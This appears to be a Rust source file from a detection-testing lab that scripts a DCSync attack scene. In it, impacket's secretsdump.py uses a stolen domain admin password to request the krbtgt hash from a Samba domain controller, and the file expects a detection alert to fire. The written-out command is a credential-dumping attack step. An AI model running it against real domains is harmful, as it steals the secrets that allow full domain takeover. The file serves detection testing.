//! DCSync by impacket with a stolen password: NTLM on the endpoint mapper's port, then a sealed
//! DRSGetNCChanges ([MS-DRSR] 4.1.10). Samba finds fault with impacket's prefix table and answers
//! with an error; an attempt is an attack all the same.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "dcsync-secretsdump",
    "DCSync of krbtgt with a domain admin's password (impacket, NTLM)",
    Tool::python("secretsdump.py", "impacket"),
    &[Expected {
        external_id: 2006,
        source: ATTACKER,
        account: None,
        targets: &[],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"secretsdump.py -just-dc-user HAWK/krbtgt "$DOMAIN/dana.admin:$ADMIN_PASSWORD@dc1.$DOMAIN" |
               grep -E 'krbtgt:502:|DRSR SessionError'"#,
    )?;
    Ok(())
}
